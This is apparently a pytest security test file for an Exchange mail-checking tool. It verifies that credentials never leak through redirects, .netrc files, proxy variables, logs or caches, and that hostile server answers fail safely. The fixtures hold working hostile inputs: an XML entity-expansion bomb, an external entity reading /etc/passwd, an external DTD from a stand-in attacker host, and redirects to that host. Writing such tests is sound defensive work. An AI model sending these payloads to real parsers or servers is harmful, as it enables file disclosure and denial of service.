"""Nobody but the confirmed address ever gets a credential of Exchange, and the library never gets one at all."""

from __future__ import annotations

import gc
import logging
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from tests.stopwatch import Stopwatch
from tests.unit.small_exchange import (
    ADDRESS,
    HOST,
    JANE,
    PATH,
    SECRET,
    TOKEN,
    SmallExchange,
    checked,
    exchange_world,
    failed,
    fault,
    users,
)

from mailwizard.model import Credential, Outcome, Until
from mailwizard.sandbox.web import Answer, Request

pytestmark = pytest.mark.usefixtures("users")
__all__ = ["users"]
EVIL = "evil.attacker.example"
TARGETS = (
    f"https://{EVIL}{PATH}",
    f"http://{HOST}{PATH}",
    f"https://{HOST}:8443/other",
    f"https://{HOST}/owa/auth",
    f"//{EVIL}/",
    f"https://jane:{SECRET}@{EVIL}/",
)


def spreads(world: object, *secrets: str) -> list[str]:
    """Return where secrets went that are not the one address."""
    found = []
    for request in world.web.requests:  # type: ignore[attr-defined]
        told = request.header("authorization") or any(request.tells(secret) for secret in secrets)
        if told and (request.host, request.path) != (HOST, PATH):
            found.append(f"{request.host}{request.path}")
    return found


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
@pytest.mark.parametrize("target", TARGETS)
@pytest.mark.parametrize("when", ["at-once", "signed-in"])
async def test_no_redirect_is_followed_with_or_without_a_credential(
    monkeypatch: pytest.MonkeyPatch, status: int, target: str, when: str
) -> None:
    away = Answer(b"", status, headers=(("Location", target),))
    server = SmallExchange(offers=("Basic",), instead=lambda request: away)
    others = ((EVIL, "/"), (HOST, "/owa/auth"), (HOST, "/other"))
    async with exchange_world(monkeypatch, server if when == "signed-in" else lambda request: away, *others) as world:
        seen = await checked(world, until=Until.DELIVERY)
        assert failed(seen).code == "ews.not-ews"
        assert SECRET not in str(seen)
        assert spreads(world, SECRET) == []
        assert {request.host for request in world.web.requests} == {HOST}
        assert {request.path for request in world.web.requests} == {PATH}
        assert server.proofs == (["Basic"] if when == "signed-in" else [])


@pytest.mark.parametrize("who", [JANE, TOKEN])
async def test_neither_netrc_nor_proxies_nor_variables_of_the_environment_count(
    monkeypatch: pytest.MonkeyPatch, home: Path, who: Credential
) -> None:
    (home / ".netrc").write_text(f"machine {HOST} login mallory password netrc-horse\n")
    (home / ".netrc").chmod(0o600)
    for name in ("http_proxy", "https_proxy", "HTTPS_PROXY", "ALL_PROXY", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE"):
        monkeypatch.setenv(name, "http://mallory:netrc-horse@127.0.0.1:9")
    server = SmallExchange(offers=("Basic", "Bearer"))
    async with exchange_world(monkeypatch, server) as world:
        seen = await checked(world, who, Until.DELIVERY)
        assert not [one for one in seen.ends() if one[1] is Outcome.FAIL]
        assert not any(request.tells("netrc-horse") for request in world.web.requests)
        assert not any(request.tells("bWFsbG9yeT") for request in world.web.requests), "mallory: in base64"
        assert spreads(world, SECRET, TOKEN.secret) == []


async def test_autodiscover_of_the_domain_is_never_asked(monkeypatch: pytest.MonkeyPatch) -> None:
    baits = (ADDRESS.domain, f"autodiscover.{ADDRESS.domain}")
    places = tuple((name, path) for name in baits for path in ("/autodiscover", "/Autodiscover/Autodiscover.xml"))
    server = SmallExchange(instead=lambda request: fault("ErrorNonExistentMailbox", "no such mailbox"))
    async with exchange_world(monkeypatch, server, *places) as world:
        seen = await checked(world)
        assert failed(seen).code == "ews.ErrorNonExistentMailbox"
        assert {request.host for request in world.web.requests} == {HOST}


def _busy(request: Request) -> Answer:
    return fault("ErrorServerBusy", "The server cannot service this request right now. Try again later.")


def _cookies(request: Request) -> Answer:
    refusal = fault("ErrorAccessDenied", "Access is denied.")
    return replace(refusal, headers=(("Set-Cookie", "X-BackEndCookie=1; path=/"),))


async def test_nothing_is_tried_again_for_a_busy_server_and_no_cookie_is_kept(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for answering, code in ((_busy, "ews.ErrorServerBusy"), (_cookies, "ews.ErrorAccessDenied")):
        server = SmallExchange(offers=("Basic",), instead=answering)
        async with exchange_world(monkeypatch, server) as world:
            assert failed(await checked(world)).code == code
            assert server.proofs == ["Basic"]
            assert not any(request.header("cookie") for request in world.web.requests)


@pytest.fixture
def logged() -> Iterator[list[str]]:
    """Hear every logger there is, at every level."""
    said: list[str] = []

    class Ear(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            said.append(record.getMessage())

    ear, root = Ear(), logging.getLogger()
    before = root.level
    root.addHandler(ear)
    root.setLevel(1)
    yield said
    root.removeHandler(ear)
    root.setLevel(before)


@pytest.mark.parametrize("mechanism", ["BASIC", "NTLM"])
async def test_no_secret_is_in_a_log_an_error_or_anything_of_the_library_and_no_cache_stays(
    monkeypatch: pytest.MonkeyPatch, logged: list[str], mechanism: str
) -> None:
    from mailwizard.checks.exchange.library import load

    load()
    from exchangelib.account import Account
    from exchangelib.protocol import BaseProtocol, CachingProtocol

    cached = dict(CachingProtocol._protocol_cache)
    server = SmallExchange()
    async with exchange_world(monkeypatch, server) as world:
        good = await checked(world, until=Until.DELIVERY, mechanism=mechanism)
        bad = await checked(world, replace(JANE, secret="wrong-horse"), mechanism=mechanism)
    said = "\n".join([*logged, str(good), str(bad)])
    assert SECRET not in said and "wrong-horse" not in said and "Authorization" not in said
    assert CachingProtocol._protocol_cache == cached
    for kept in gc.get_objects():
        if isinstance(kept, (Account, BaseProtocol)):
            assert SECRET not in repr(vars(kept)) and SECRET not in repr(vars(kept.__dict__.get("config", kept)))


async def test_ntlm_over_a_connection_that_ends_in_between_is_told_and_not_tried_twice(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    server = SmallExchange()
    ntlm = server._ntlm

    def ending(request: Request, scheme: str, message: bytes) -> Answer | None:
        answer = ntlm(request, scheme, message)
        if answer is not None and message[8] == 1:
            return replace(answer, headers=(*answer.headers, ("Connection", "close")))
        return answer

    monkeypatch.setattr(server, "_ntlm", ending)
    async with exchange_world(monkeypatch, server) as world:
        seen = await checked(world)
    assert failed(seen).code == "ews.connection-ended"
    assert server.proofs == []


SOAP = b'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">'
BOMB = (
    b'<!DOCTYPE a [<!ENTITY a "'
    + b"x" * 1000
    + b'">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + each, b"&%c;" % (97 + each) * 30) for each in range(8))
    + b"]>"
)


@pytest.mark.parametrize(
    "body",
    [
        SOAP,
        SOAP + b"<s:Body/></s:Envelope>",
        BOMB + SOAP + b"<s:Body>&i;</s:Body></s:Envelope>",
        b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>' + SOAP + b"<s:Body>&b;</s:Body></s:Envelope>",
        b'<!DOCTYPE a SYSTEM "https://evil.attacker.example/a.dtd">' + SOAP + b"<s:Body/></s:Envelope>",
        SOAP + b"<s:Body>" + b"<a>" * 20000 + b"</a>" * 20000 + b"</s:Body></s:Envelope>",
        SOAP + b"<s:Body><m:GetFolderResponse xmlns:m='x'/></s:Body></s:Envelope>",
        SOAP + b"\xff\xfe\x00</s:Envelope>",
        fault("ErrorX\u202eY", "a" * 100_000).body,
        fault("__class__", "no").body,
        fault("Error\n\n[31m", "no").body,
    ],
)
async def test_an_answer_that_is_made_to_harm_ends_in_a_failure_of_ours(
    monkeypatch: pytest.MonkeyPatch, body: bytes
) -> None:
    server = SmallExchange(offers=("Basic",), instead=lambda request: Answer(body))
    async with exchange_world(monkeypatch, server, (EVIL, "/")) as world:
        watch = Stopwatch()
        seen = await checked(world, until=Until.DELIVERY)
        assert watch.seconds < 5
        code = failed(seen).code
        assert code.startswith("ews.") and code.isascii() and code.replace(".", "").replace("-", "").isalnum()
        assert len(failed(seen).detail) <= 1000 and "root:" not in str(seen)
        assert {request.host for request in world.web.requests} == {HOST}
